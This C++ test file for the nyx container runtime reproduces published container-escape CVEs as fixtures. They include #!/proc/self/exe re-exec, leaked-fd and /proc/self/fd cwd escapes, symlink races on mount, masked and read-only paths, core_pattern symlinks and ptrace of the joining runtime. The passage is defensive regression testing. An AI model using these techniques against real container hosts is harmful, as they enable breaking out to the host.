// The CVE half of the matrix (issue 17): one fixture per published container-escape CVE of runc,
// crun, youki, containerd's shim and bubblewrap that applies to nyx's design, each performing the
// attack against nyx for real. docs/security.md has the table, with the reason for every CVE that
// cannot apply. Racing fixtures race for real (a second process flips the path while the runtime
// works, for a bounded time) and say how often the runtime went through the flipped path.
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cctype>
#include <chrono>
#include <cstring>
#include <functional>
#include <sstream>
#include <thread>

#include "tests/escape/matrix.hpp"

namespace nyx::escape {

namespace {

const std::string kProbe = "/bin/nyx-probe";
const std::string kPayload = "/bin/nyx-escape-payload";
constexpr unsigned kContainerRoot = 100000;  // host uid of the strict profile's container root

double now_s() {
  return std::chrono::duration<double>(std::chrono::steady_clock::now().time_since_epoch()).count();
}

// "strict +ptrace ..." is `spec --allow ptrace`; "+CAP_..." words are not groups.
json base_config(Env& env, const Cell& c) {
  if (c.config.rfind("strict", 0) != 0) return env.root_config();
  std::string allow;
  std::stringstream ss(c.config);
  for (std::string w; ss >> w;) {
    if (w.size() > 1 && w[0] == '+' && std::islower(static_cast<unsigned char>(w[1]))) {
      allow += (allow.empty() ? "" : ",") + w.substr(1);
    }
  }
  while (!allow.empty() && allow.back() == ',')
    allow.pop_back();
  return allow.empty() ? env.strict() : env.strict({"--allow", allow});
}

bool config_has(const Cell& c, const std::string& word) {
  return c.config.find(word) != std::string::npos;
}

Launch launch_for(const Cell& c, json cfg, std::vector<std::string> args) {
  Launch l;
  l.config = std::move(cfg);
  l.args = std::move(args);
  l.ablate = c.ablate;
  l.flags = c.flags;
  return l;
}

std::string first_line(const std::string& s) {
  return s.substr(0, s.find('\n'));
}

std::string runtime_error(const test::Result& res) {
  std::string line = first_line(res.err);
  std::size_t colon = line.find(": ");
  return colon == std::string::npos ? line : line.substr(colon + 2);
}

std::string errno_name(int err) {
  if (err == 0) return "ok";
  const char* n = strerrorname_np(err);
  return n != nullptr ? n : std::to_string(err);
}

std::string num(const json& j, const std::string& key) {
  return j.is_object() && j.contains(key) ? j[key].dump() : "?";
}

long count(const json& j, const std::string& key) {
  return j.is_object() && j.contains(key) && j[key].is_number() ? j[key].get<long>() : 0;
}

void remove_tree(const std::string& path) {
  test::run({"rm", "-rf", path});
}

// Every mount under /dev dropped: the rootfs's own /dev is what the container sees.
json without_dev_mounts(json cfg) {
  json kept = json::array();
  for (const auto& m : cfg["mounts"]) {
    std::string d = m.value("destination", "");
    if (d != "/dev" && d.rfind("/dev/", 0) != 0) kept.push_back(m);
  }
  cfg["mounts"] = kept;
  return cfg;
}

void add_caps(json& cfg, const std::vector<std::string>& caps) {
  for (const char* set : {"bounding", "effective", "permitted"}) {
    json& list = cfg["process"]["capabilities"][set];
    if (!list.is_array()) list = json::array();
    for (const auto& cap : caps)
      list.push_back(cap);
  }
}

// Puts a host file at fd 3 and a host directory at fd 9, neither close-on-exec, in front of
// the runtime: what a careless engine leaks and an attacker hopes to find (CVE-2024-21626).
std::vector<std::string> fd_wrapper(const std::string& fd3, const std::string& fd9) {
  return {"/bin/sh", "-c", "exec 3<\"$1\" 9<\"$2\"; shift 2; exec \"$@\"", "sh", fd3, fd9};
}

std::string preserved_file(Env& env) {
  std::string path = env.host + "/preserved";
  write_text(path, "preserved\n");
  return path;
}

// A container that sleeps, started detached, for fixtures that `exec` into it.
Detached sleeper(Env& env, const Cell& c, json cfg, double secs = 5) {
  Launch l = launch_for(c, std::move(cfg), {kProbe, "sleep", std::to_string(secs)});
  return run_detached(env, l);
}

// Stops the detached container and returns its state (for the cell's state check).
json finish(Env& env, const Detached& d) {
  json state = state_of(env, d.id);
  remove_container(env, d.id);
  return state;
}

Observation not_started(const Detached& d) {
  return error("the container did not start: " + runtime_error(d.res));
}

// ---- CVE-2016-3697: a numeric user name ---------------------------------------------------

// runc resolved process.user "1000" through /etc/passwd, where an image could name a user
// "1000" with uid 0. nyx takes the numeric uid from the config and never reads /etc/passwd.
Observation fx_numeric_user(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-cve");
  write_text(rootfs + "/etc/passwd",
             "root:x:0:0:root:/root:/bin/sh\n1000:x:0:0:evil:/:/bin/sh\n"
             "nobody:x:65534:65534:nobody:/nonexistent:/bin/false\n");
  json cfg = base_config(env, c);
  cfg["root"]["path"] = rootfs;
  cfg["process"]["user"] = {{"uid", 1000}, {"gid", 1000}};
  Ran r = env.launch(launch_for(c, cfg, {kProbe, "status"}));
  json s = probe_step(r, "status");
  if (s.is_null()) return no_output(r);
  std::string uid = text(s, "Uid").substr(0, text(s, "Uid").find_first_of(" \t"));
  if (uid == "0") return escaped("passwd user \"1000\" gave uid " + uid, r.state);
  return blocked("uid " + uid + " (passwd's \"1000\" user, uid 0, not consulted)", r.state);
}

// ---- CVE-2024-40635 (containerd): a uid past 32 bits ---------------------------------------

Observation fx_uid_overflow(Env& env, const Cell& c) {
  json cfg = base_config(env, c);
  cfg["process"]["user"] = {{"uid", 4294967296ULL}, {"gid", 4294967296ULL}};
  Ran r = env.launch(launch_for(c, cfg, {kProbe, "status"}));
  json s = probe_step(r, "status");
  if (s.is_null()) {
    if (r.res.status != 0 && r.lines.empty()) return refused(runtime_error(r.res));
    return no_output(r);
  }
  std::string uid = text(s, "Uid").substr(0, text(s, "Uid").find_first_of(" \t"));
  if (uid == "0") return escaped("uid 2^32 ran as uid " + uid, r.state);
  return blocked("uid 2^32 ran as " + uid, r.state);
}

// ---- CVE-2023-25173 (containerd), CVE-2022-2989 (podman): supplementary groups --------------

bool has_group(const std::string& groups, const std::string& gid) {
  std::string padded = " " + groups + " ";
  return padded.find(" " + gid + " ") != std::string::npos;
}

// The runtime's caller holds supplementary group 4242; the harness, uid 1000 with no
// additionalGids, must not.
Observation fx_groups(Env& env, const Cell& c) {
  json cfg = base_config(env, c);
  cfg["process"]["user"] = {{"uid", 1000}, {"gid", 1000}};
  std::vector<std::string> wrapper = self_wrapper({"groups", "4242,4343"});
  json s;
  json state;
  Ran r;
  if (config_has(c, "exec")) {
    Detached d = sleeper(env, c, cfg);
    if (!d.started()) return not_started(d);
    test::Result e = nyx_exec(env, {"--user", "1000:1000", d.id, kProbe, "status"}, wrapper);
    state = finish(env, d);
    s = test::step(test::json_lines(e.out), "status");
    if (s.is_null()) return error("exec: " + runtime_error(e), state);
  } else {
    Launch l = launch_for(c, cfg, {kProbe, "status"});
    l.wrapper = wrapper;
    r = env.launch(l);
    state = r.state;
    s = probe_step(r, "status");
    if (s.is_null()) return no_output(r);
  }
  std::string groups = text(s, "Groups");
  if (has_group(groups, "4242") || has_group(groups, "4343")) {
    return escaped("kept the caller's groups: Groups " + groups, state);
  }
  return blocked("Groups \"" + groups + "\" (caller had 4242,4343)", state);
}

// ---- CVE-2022-29162 (runc), CVE-2022-27650 (crun), CVE-2022-24769 (moby): inheritable caps -

// A copy of the probe with file capabilities: CAP_NET_RAW inheritable and effective, nothing
// permitted. Exec'd by a non-root user it gains CAP_NET_RAW only if the process's own
// inheritable set holds it.
void add_fcaps_probe(const std::string& rootfs) {
  std::string path = rootfs + "/bin/nyx-probe-fcaps";
  if (test::path_exists(path)) return;
  test::run({"cp", rootfs + "/bin/nyx-probe", path});
  vfs_cap_data caps{};
  caps.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE;
  caps.data[0].inheritable = 1U << CAP_NET_RAW;
  if (setxattr(path.c_str(), "security.capability", &caps, XATTR_CAPS_SZ_2, 0) != 0) {
    throw std::runtime_error("setxattr security.capability on " + path);
  }
}

Observation fx_inheritable(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-cve");
  add_fcaps_probe(rootfs);
  json cfg = base_config(env, c);
  cfg["root"]["path"] = rootfs;
  json empty = json::array();
  cfg["process"]["capabilities"] = {{"bounding", {"CAP_NET_RAW"}},
                                    {"effective", {"CAP_NET_RAW"}},
                                    {"permitted", {"CAP_NET_RAW"}},
                                    {"inheritable", empty},
                                    {"ambient", empty}};
  // no_new_privs would stop file capabilities too: the capability sets are the barrier here.
  cfg["process"]["noNewPrivileges"] = false;
  // The caller holds CAP_NET_RAW inheritable and ambient: nothing of it may reach the harness.
  std::vector<std::string> wrapper = self_wrapper({"inh-caps", std::to_string(CAP_NET_RAW)});
  std::vector<std::string> steps = {"/bin/nyx-probe-fcaps", "status", "+", "socket", "inet", "raw"};
  std::vector<json> lines;
  json state;
  if (config_has(c, "exec")) {
    Detached d = sleeper(env, c, cfg);
    if (!d.started()) return not_started(d);
    std::vector<std::string> args = {"--cap", "CAP_NET_RAW", "--user", "1000:1000", d.id};
    args.insert(args.end(), steps.begin(), steps.end());
    test::Result e = nyx_exec(env, args, wrapper);
    state = finish(env, d);
    lines = test::json_lines(e.out);
    if (lines.empty()) return error("exec: " + runtime_error(e), state);
  } else {
    cfg["process"]["user"] = {{"uid", 1000}, {"gid", 1000}};
    Launch l = launch_for(c, cfg, steps);
    l.wrapper = wrapper;
    Ran r = env.launch(l);
    if (r.lines.empty()) return no_output(r);
    lines = r.lines;
    state = r.state;
  }
  json s = test::step(lines, "status"), raw = test::step(lines, "socket");
  std::string inh = text(s, "CapInh"), amb = text(s, "CapAmb");
  std::string ev = "CapInh " + inh + ", CapAmb " + amb +
                   ", raw socket after exec of an fI=" + "NET_RAW file: " + errno_of(raw);
  bool clean = inh == "0000000000000000" && amb == "0000000000000000";
  if (!clean || flag(raw, "ok")) return escaped(ev, state);
  return blocked(ev, state);
}

// ---- CVE-2024-21626 and CVE-2016-9962 (the fd half): what `exec` and argv can reach ---------

std::string host_fds(const json& walk, const std::string& keep) {
  std::string out;
  for (const auto& f : walk.value("fds", json::array())) {
    int fd = f["fd"];
    std::string target = f["target"].is_string() ? f["target"].get<std::string>() : "?";
    if (fd <= 2 || (fd == 3 && target == keep)) continue;
    out += (out.empty() ? "" : ", ") + std::to_string(fd) + " -> " + target;
  }
  return out;
}

// `exec` with host fds 3 (preserved) and 9 (a host directory) in the caller; and
// `exec --cwd /proc/self/fd/N` for N = 3..9.
Observation fx_exec_fds(Env& env, const Cell& c) {
  Detached d = sleeper(env, c, base_config(env, c));
  if (!d.started()) return not_started(d);
  std::string keep = preserved_file(env);
  std::vector<std::string> w = fd_wrapper(keep, env.host);
  test::Result walk_res =
      nyx_exec(env, {"--preserve-fds", "1", d.id, kProbe, "fdwalk", "+", "cwd-escape", "9"}, w);
  std::string outside;
  int refused_n = 0;
  for (int fd = 3; fd <= 9; ++fd) {
    test::Result e = nyx_exec(
        env, {"--cwd", "/proc/self/fd/" + std::to_string(fd), d.id, kProbe, "chdir", "."}, w);
    json s = test::step(test::json_lines(e.out), "chdir");
    if (s.is_null()) {
      ++refused_n;
      continue;
    }
    std::string cwd = text(s, "cwd");
    if (cwd.empty() || cwd[0] != '/') outside += " fd " + std::to_string(fd) + ": " + cwd;
  }
  json state = finish(env, d);
  std::vector<json> lines = test::json_lines(walk_res.out);
  json walk = test::step(lines, "fdwalk");
  if (walk.is_null()) return error("exec fdwalk: " + runtime_error(walk_res), state);
  std::string leaked = host_fds(walk, keep);
  json ce = test::step(lines, "cwd-escape");
  if (!leaked.empty()) return escaped("exec'd process got fds " + leaked, state);
  if (flag(ce, "ok")) return escaped("exec'd process chdir'd to host fd 9", state);
  if (!outside.empty()) return escaped("exec --cwd outside the root:" + outside, state);
  return blocked("exec: only 0-3; --cwd /proc/self/fd/3..9: " + std::to_string(refused_n) +
                     "/7 refused, the rest inside the root",
                 state);
}

// process.args[0] through a leaked fd (the third CVE-2024-21626 attack): a host directory at
// fd 9 holds a copy of the probe; `run` and `exec` of /proc/self/fd/N/nyx-host-probe.
Observation fx_args_fd(Env& env, const Cell& c) {
  std::string host_probe = env.host + "/nyx-host-probe";
  if (!test::path_exists(host_probe)) test::run({"cp", test::probe_bin(), host_probe});
  std::vector<std::string> w = fd_wrapper(preserved_file(env), env.host);
  std::string ran;
  json state;
  for (int fd = 3; fd <= 9; ++fd) {
    std::string arg0 = "/proc/self/fd/" + std::to_string(fd) + "/nyx-host-probe";
    Launch l = launch_for(c, base_config(env, c), {arg0, "echo", "host-binary"});
    l.wrapper = w;
    Ran r = env.launch(l);
    if (!probe_step(r, "echo").is_null()) ran += " run fd " + std::to_string(fd);
    if (r.state.is_object()) state = r.state;
  }
  Detached d = sleeper(env, c, base_config(env, c));
  if (!d.started()) return not_started(d);
  for (int fd = 3; fd <= 9; ++fd) {
    std::string arg0 = "/proc/self/fd/" + std::to_string(fd) + "/nyx-host-probe";
    test::Result e = nyx_exec(env, {d.id, arg0, "echo", "host-binary"}, w);
    if (!test::step(test::json_lines(e.out), "echo").is_null()) {
      ran += " exec fd " + std::to_string(fd);
    }
  }
  json dstate = finish(env, d);
  if (!ran.empty()) return escaped("ran the host's binary:" + ran, dstate);
  return blocked("run and exec of /proc/self/fd/3..9/nyx-host-probe: never found", dstate);
}

// ---- CVE-2016-9962 (runc), CVE-2016-8659 (bubblewrap): ptrace of the joining runtime --------

// `exec ID nyx-probe echo x`, n times; how many printed their line, and the first failure.
int exec_echo(Env& env, const Detached& d, int n, std::string& fails) {
  int ok = 0;
  for (int i = 0; i < n; ++i) {
    test::Result e = nyx_exec(env, {d.id, kProbe, "echo", "x"});
    if (!test::step(test::json_lines(e.out), "echo").is_null()) {
      ++ok;
    } else if (fails.empty()) {
      fails = " (failed: exit " + std::to_string(e.status) + " " + runtime_error(e) + ")";
    }
  }
  return ok;
}

// While `exec` joins, a harness in the container tries ptrace, /proc/PID/mem, /proc/PID/fd and
// /proc/PID/environ against every process still named nyx-runtime.
Observation fx_exec_ptrace(Env& env, const Cell& c) {
  json cfg = base_config(env, c);
  if (config_has(c, "CAP_SYS_PTRACE")) add_caps(cfg, {"CAP_SYS_PTRACE"});
  Detached d = run_detached(env, launch_for(c, cfg, {kPayload, "ptrace-hunt", "5"}));
  if (!d.started()) return not_started(d);
  usleep(50000);
  std::string fails;
  int ok = exec_echo(env, d, 4, fails);
  kill(d.pid, SIGUSR1);
  wait_gone(d.pid, 5);
  json state = finish(env, d);
  json h = test::step(lines_of(d.out_file), "ptrace-hunt");
  if (h.is_null()) return error("no hunter output: " + first_line(read_text(d.out_file)), state);
  long got = count(h, "attached") + count(h, "mem") + count(h, "fds") + count(h, "environ");
  std::string ev = std::to_string(ok) + " execs" + fails + "; " + num(h, "attempts") +
                   " tries on runtime processes: ptrace " + num(h, "attached") + ", mem " +
                   num(h, "mem") + ", fd " + num(h, "fds") + ", environ " + num(h, "environ");
  if (got > 0) return escaped(ev, state);
  if (count(h, "attempts") == 0) {
    // The hunt ran (it saw the exec'd processes appear) and no process still named nyx-runtime
    // was ever in the container's pid namespace: the joining process stays outside it.
    if (count(h, "pids") == 0 || ok == 0) return error("the hunt saw no exec: " + ev, state);
    return blocked(ev + "; " + num(h, "pids") +
                       " new processes seen, none named nyx-runtime (the joining process stays "
                       "outside the pid namespace; what it forks in is named after its harness)",
                   state);
  }
  return blocked(ev + " (all denied)", state);
}

// ---- CVE-2019-5736 (runc): the runtime binary from inside -----------------------------------

struct Binary {
  struct stat st {};
  std::size_t hash = 0;
};

Binary runtime_binary() {
  Binary b;
  stat(test::nyx_bin().c_str(), &b.st);
  b.hash = std::hash<std::string>{}(read_text(test::nyx_bin()));
  return b;
}

// A detached hunter (payload stop-hunt) pins every new process with SIGSTOP and tries its
// /proc/PID/exe while `action` runs the runtime against the container; then, with no runtime
// process left, it reopens what it caught for writing. Nothing is ever written.
Observation exe_hunt(Env& env, const Cell& c, json cfg, const std::string& what,
                     const std::function<int(const Detached&)>& action) {
  Binary before = runtime_binary();
  Launch l = launch_for(c, std::move(cfg),
                        {kPayload, "stop-hunt", "5", "0.5", std::to_string(before.st.st_dev),
                         std::to_string(before.st.st_ino)});
  Detached d = run_detached(env, l);
  if (!d.started()) return not_started(d);
  usleep(50000);
  // The attack again and again, up to 16 times in 2 s, until the hunter has caught the runtime
  // binary and has seen it at least 4 times.
  std::string marker = "/proc/" + std::to_string(d.pid) + "/root/tmp/nyx-escape-reached";
  double t0 = now_s();
  int n = 0;
  for (int round = 0; round < 16 && now_s() - t0 < 2.0; ++round) {
    n += action(d);
    if (round >= 3 && test::path_exists(marker)) break;
  }
  unlink(marker.c_str());
  double took = now_s() - t0;
  kill(d.pid, SIGUSR1);  // the hunt is over; from now on no runtime process runs, and the
  wait_gone(d.pid, 5);   // hunter reopens what it caught for writing
  json state = finish(env, d);
  json h = test::step(lines_of(d.out_file), "stop-hunt");
  if (h.is_null()) return error("no hunter output: " + first_line(read_text(d.out_file)), state);
  char secs[16];
  std::snprintf(secs, sizeof secs, "%.2f", took);
  std::string ev = std::to_string(n) + " " + what + " in " + secs + " s; " + num(h, "pids") +
                   " processes, " + num(h, "stops") + " SIGSTOPs, " + num(h, "tries") +
                   " exe opens (" + num(h, "denied") + " denied); runtime binary reached " +
                   num(h, "reached") + "x";
  if (runtime_binary().hash != before.hash) return escaped("runtime binary changed; " + ev, state);
  if (count(h, "write_opened") > 0) return escaped(ev + ", opened for writing", state);
  if (count(h, "reached") > 0) {
    return blocked(
        ev + ", reopen for writing " + errno_name(static_cast<int>(count(h, "write_errno"))),
        state);
  }
  return blocked(ev, state);
}

// The joining `exec` process itself (issue 17, class 1): the innocent command runs a probe.
Observation fx_exec_joiner(Env& env, const Cell& c) {
  json cfg = base_config(env, c);
  if (config_has(c, "CAP_SYS_PTRACE")) add_caps(cfg, {"CAP_SYS_PTRACE"});
  return exe_hunt(env, c, cfg, "execs", [&](const Detached& d) {
    std::string fails;
    return exec_echo(env, d, 1, fails);
  });
}

// The container's /bin/evil-sh is "#!/proc/self/exe": the kernel resolves the interpreter in
// the process that execs it, the runtime's clone, so `exec ID /bin/evil-sh` starts the host's
// nyx-runtime binary inside the container.
Observation fx_reexec_exec(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-cve");
  write_text(rootfs + "/bin/evil-sh", "#!/proc/self/exe\n");
  chmod((rootfs + "/bin/evil-sh").c_str(), 0755);
  json cfg = base_config(env, c);
  cfg["root"]["path"] = rootfs;
  return exe_hunt(env, c, cfg, "execs of #!/proc/self/exe", [&](const Detached& d) {
    nyx_exec(env, {d.id, "/bin/evil-sh"});
    return 1;
  });
}

// An image whose entrypoint is /proc/self/exe, run in the pid namespace (and, strict, the user
// namespace) of the hunter's container, as containers of one pod share them.
Observation fx_reexec_run(Env& env, const Cell& c) {
  json cfg = base_config(env, c);
  bool strict = c.config.rfind("strict", 0) == 0;
  return exe_hunt(env, c, cfg, "runs of /proc/self/exe", [&](const Detached& d) {
    json b = cfg;
    std::string ns = "/proc/" + std::to_string(d.pid) + "/ns/";
    for (auto& n : b["linux"]["namespaces"]) {
      if (n["type"] == "pid") n["path"] = ns + "pid";
      if (n["type"] == "user") n["path"] = ns + "user";
    }
    if (strict) {
      b["linux"].erase("uidMappings");
      b["linux"].erase("gidMappings");
    }
    Launch l = launch_for(c, b, {"/proc/self/exe"});
    l.ablate.clear();
    env.launch(l);
    return 1;
  });
}

// ---- CVE-2021-30465, CVE-2024-45310 (runc): mount targets through a racing symlink -----------

// A race runs for 0.6 s, and on up to 3 s until the runtime went through the flipped path 3
// times. Where a run is slow (a VM under TCG: the 6.1 kernel of tests/vm takes most of a
// second per container) 3 s are a handful of runs, so it goes on to 40 runs, up to 60 s.
bool racing(double start, int hits, int runs) {
  double t = now_s() - start;
  if (t < 0.6) return true;
  if (hits >= 3) return false;
  return t < 3.0 || (runs < 40 && t < 60.0);
}

// vol/dir in the rootfs is exchanged, as fast as the machine can, with vol/link, a symlink to
// a host directory. The config mounts a tmpfs on /vol/dir/sub, which the runtime must create
// and mount. Whenever the runtime resolved through the link, the target lands in the rootfs's
// own copy of the host path (a "hit"); the host directory must stay empty and unmounted.
Observation fx_mount_race(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-cve");
  std::string victim = "/var/tmp/nyx-escape-victim-" + std::to_string(getpid());
  mkdir(victim.c_str(), 0755);
  std::string vol = rootfs + "/vol";
  remove_tree(vol);  // a previous flipper's last state
  mkdir(vol.c_str(), 0755);
  mkdir((vol + "/dir").c_str(), 0755);
  symlink(victim.c_str(), (vol + "/link").c_str());
  json cfg = base_config(env, c);
  cfg["root"]["path"] = rootfs;
  cfg["mounts"].push_back({{"destination", "/vol/dir/sub"},
                           {"type", "tmpfs"},
                           {"source", "tmpfs"},
                           {"options", {"nosuid", "size=64k"}}});
  std::string in_root = rootfs + victim;
  int runs = 0, hits = 0, failed = 0;
  json state;
  std::string host_side;
  long flips = 0;
  {
    Flipper flip(vol + "/dir", vol + "/link");
    double start = now_s();
    while (racing(start, hits, runs)) {
      Ran r = env.launch(launch_for(c, cfg, {kProbe, "echo", "x"}));
      ++runs;
      if (probe_step(r, "echo").is_null()) ++failed;
      if (r.state.is_object()) state = r.state;
      if (test::path_exists(in_root + "/sub")) {
        ++hits;
        remove_tree(rootfs + "/var/tmp/" + victim.substr(std::strlen("/var/tmp/")));
      }
      if (!test::mounts_under(victim).empty() || !test::dir_entries(victim).empty()) {
        host_side = "after run " + std::to_string(runs);
        break;
      }
    }
    flips = flip.flips();
  }
  std::vector<std::string> mounted = test::mounts_under(victim);
  for (auto it = mounted.rbegin(); it != mounted.rend(); ++it)
    umount2(it->c_str(), MNT_DETACH);
  bool created = !test::dir_entries(victim).empty();
  remove_tree(victim);
  std::string ev = std::to_string(runs) + " runs, " + std::to_string(flips) + " flips; " +
                   std::to_string(hits) +
                   " went through the symlink (target made in the rootfs), " +
                   std::to_string(failed) + " refused or failed";
  if (!mounted.empty()) return escaped("mounted on the host dir " + host_side + "; " + ev, state);
  if (created) return escaped("created in the host dir " + host_side + "; " + ev, state);
  if (hits == 0) return error("the race never hit: " + ev, state);
  return blocked(ev + "; host dir empty, unmounted", state);
}

// ---- CVE-2025-31133 (runc): masked paths ----------------------------------------------------

// A masked file exchanged, while the runtime masks it, with a symlink to a harmless decoy: a
// mask that follows the symlink hides the decoy and leaves the secret in place.
Observation fx_masked_race(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-cve");
  std::string secret = rootfs + "/etc/masked-secret";
  std::string link = rootfs + "/etc/masked-link";
  // A previous cell's flipper may have left either name as the link: remove both, never
  // write through them. The link is relative, so it stays inside the rootfs on the host too.
  unlink(secret.c_str());
  unlink(link.c_str());
  write_text(secret, env.secret + "\n");
  write_text(rootfs + "/etc/masked-decoy", "decoy\n");
  symlink("masked-decoy", link.c_str());
  json cfg = base_config(env, c);
  cfg["root"]["path"] = rootfs;
  cfg["linux"]["maskedPaths"].push_back("/etc/masked-secret");
  int runs = 0, exposed = 0, refused_masks = 0;
  long reads = 0, secret_reads = 0, flips = 0;
  // The state check (a hardened run reads level full) is made on a run the race did not hit:
  // a run that met the symlink records mounts failed, as it should.
  json state, clean_state;
  {
    Flipper flip(secret, link);
    double start = now_s();
    while (racing(start, exposed + refused_masks, runs)) {
      Ran r = env.launch(
          launch_for(c, cfg, {kPayload, "watch", "/etc/masked-secret", "20", env.secret}));
      ++runs;
      if (r.state.is_object()) {
        state = r.state;
        // A runtime that refuses to mask through a symlink records the mount as failed.
        if (state["hardening"]["primitives"]["mounts"].value("status", "") == "failed") {
          ++refused_masks;
        } else {
          clean_state = state;
        }
      }
      json w = probe_step(r, "watch");
      reads += count(w, "reads");
      secret_reads += count(w, "secret_reads");
      if (count(w, "secret_reads") > 0) ++exposed;
    }
    flips = flip.flips();
  }
  std::string ev = std::to_string(runs) + " runs, " + std::to_string(flips) + " flips; " +
                   std::to_string(exposed) + " runs read the secret (" +
                   std::to_string(secret_reads) + " of " + std::to_string(reads) + " reads), " +
                   std::to_string(refused_masks) + " refused to mask through the symlink";
  if (reads == 0) return error("the harness never read: " + ev, state);
  if (exposed + refused_masks == 0 && c.ablate.empty()) {
    return error("the race never hit: " + ev, state);
  }
  if (clean_state.is_object()) state = clean_state;
  if (exposed > 0) return escaped(ev, state);
  return blocked(ev, state);
}

// The same race against linux.readonlyPaths (youki GHSA-3q8j-pf29-vwv8 is its fd-pinning half):
// a read-only path exchanged with a symlink to a decoy directory while the runtime binds and
// remounts it. The harness writes through the path; a write that reaches the real directory
// while the record says the mounts applied is a silent escape.
// The real read-only directory's file, whichever of the two exchanged names it has now: the
// name is opened as a directory without following a symlink (the other name is the link to the
// decoy, whose file the harness may legitimately write), and the file is read or written
// through that fd, so an exchange in between cannot make the runner look at the decoy.
// Returns false when a flip got in the way of both names; the caller tries again.
bool real_dir_file(const std::string& a, const std::string& b, const std::string* write,
                   std::string* read) {
  for (const std::string& d : {a, b}) {
    int dfd = open(d.c_str(), O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
    if (dfd < 0) continue;
    int fd =
        openat(dfd, "file", (write ? O_WRONLY | O_CREAT | O_TRUNC : O_RDONLY) | O_CLOEXEC, 0644);
    close(dfd);
    if (fd < 0) return write == nullptr;  // no file yet: nothing was written
    bool ok = true;
    if (write != nullptr) {
      ok = ::write(fd, write->data(), write->size()) == static_cast<ssize_t>(write->size());
    } else {
      char buf[64];
      ssize_t n = ::read(fd, buf, sizeof buf);
      *read = n > 0 ? std::string(buf, static_cast<std::size_t>(n)) : "";
    }
    close(fd);
    return ok;
  }
  return false;
}

Observation fx_readonly_race(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-cve");
  std::string dir = rootfs + "/etc/ro-dir", link = rootfs + "/etc/ro-link";
  remove_tree(dir);
  remove_tree(link);
  remove_tree(rootfs + "/etc/ro-decoy");
  mkdir(dir.c_str(), 0755);
  mkdir((rootfs + "/etc/ro-decoy").c_str(), 0755);
  symlink("ro-decoy", link.c_str());
  std::string file = dir + "/file";
  json cfg = base_config(env, c);
  cfg["root"]["path"] = rootfs;
  cfg["linux"]["readonlyPaths"].push_back("/etc/ro-dir");
  int runs = 0, written = 0, silent = 0, failed = 0;
  long flips = 0;
  json state;
  {
    Flipper flip(dir, link);
    double start = now_s();
    while (racing(start, written + failed, runs)) {
      // Written in place by the runner between runs; the flipper may have moved it.
      const std::string host = "host\n";
      for (int i = 0; i < 1000 && !real_dir_file(dir, link, &host, nullptr); ++i) {
      }
      Ran r = env.launch(launch_for(c, cfg, {kProbe, "write", "/etc/ro-dir/file", "pwned"}));
      ++runs;
      if (r.state.is_object()) state = r.state;
      std::string status =
          state.is_object() ? state["hardening"]["primitives"]["mounts"].value("status", "") : "";
      if (status == "failed") ++failed;
      std::string now;
      for (int i = 0; i < 1000 && !real_dir_file(dir, link, nullptr, &now); ++i) {
      }
      bool hit = now == "pwned";
      if (hit) {
        ++written;
        if (status != "failed") ++silent;
      }
    }
    flips = flip.flips();
  }
  std::string ev = std::to_string(runs) + " runs, " + std::to_string(flips) + " flips; " +
                   std::to_string(written) + " writes reached the read-only directory (" +
                   std::to_string(silent) + " with the mounts recorded applied), " +
                   std::to_string(failed) + " runs recorded mounts failed";
  if (silent > 0) return escaped(ev, state);
  if (written + failed == 0) return error("the race never hit: " + ev, state);
  return blocked(ev, state);
}

// The rootfs's own /dev/null is a symlink to /proc/sys/kernel/core_pattern (no /dev tmpfs): a
// runtime that masks with the container's /dev/null bind-mounts core_pattern, writable, over
// the masked path.
Observation fx_masked_devnull(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-image-dev");
  std::string null = rootfs + "/dev/null";
  unlink(null.c_str());
  symlink("/proc/sys/kernel/core_pattern", null.c_str());
  write_text(rootfs + "/etc/masked-secret", env.secret + "\n");
  json cfg = without_dev_mounts(base_config(env, c));
  cfg["root"]["path"] = rootfs;
  cfg["linux"]["maskedPaths"].push_back("/etc/masked-secret");
  Ran r = env.launch(launch_for(c, cfg, {kPayload, "fsinfo", "/etc/masked-secret"}));
  json s = probe_step(r, "fsinfo");
  if (s.is_null()) return no_output(r);
  std::string what = text(s, "type") + " " + text(s, "rdev");
  if (flag(s, "procfs")) {
    return escaped("masked path is a procfs file (write: " +
                       errno_name(static_cast<int>(count(s, "write_errno"))) + ")",
                   r.state);
  }
  if (what != "chr 1:3") return escaped("masked path is " + what + ", not /dev/null", r.state);
  return blocked("masked with the host's /dev/null (chr 1:3), rootfs /dev/null link ignored",
                 r.state);
}

// ---- CVE-2025-52565 (runc): the /dev/console bind source --------------------------------------

// The image brings its own /dev: /dev/ptmx is a symlink to the ptmx of a devpts the config
// mounts at /devpts, and /dev/pts/0..255 are symlinks to /proc/sys/kernel/core_pattern. The pty
// then comes from /devpts, but a runtime that bind-mounts "/dev/pts/N" by path onto /dev/console
// (instead of the pty it holds) hands the harness core_pattern as its console.
Observation fx_console(Env& env, const Cell& c) {
  std::string rootfs = env.rootfs_copy("rootfs-image-dev");
  std::string pts = rootfs + "/dev/pts";
  if (!test::path_exists(pts + "/0")) {
    mkdir(pts.c_str(), 0755);
    mkdir((rootfs + "/devpts").c_str(), 0755);
    for (int i = 0; i < 256; ++i)
      symlink("/proc/sys/kernel/core_pattern", (pts + "/" + std::to_string(i)).c_str());
    symlink("/devpts/ptmx", (rootfs + "/dev/ptmx").c_str());
  }
  json cfg = without_dev_mounts(base_config(env, c));
  cfg["root"]["path"] = rootfs;
  cfg["process"]["terminal"] = true;
  cfg["mounts"].push_back(
      {{"destination", "/devpts"},
       {"type", "devpts"},
       {"source", "devpts"},
       {"options", {"nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"}}});
  if (config_has(c, "-readonlyPaths")) cfg["linux"].erase("readonlyPaths");
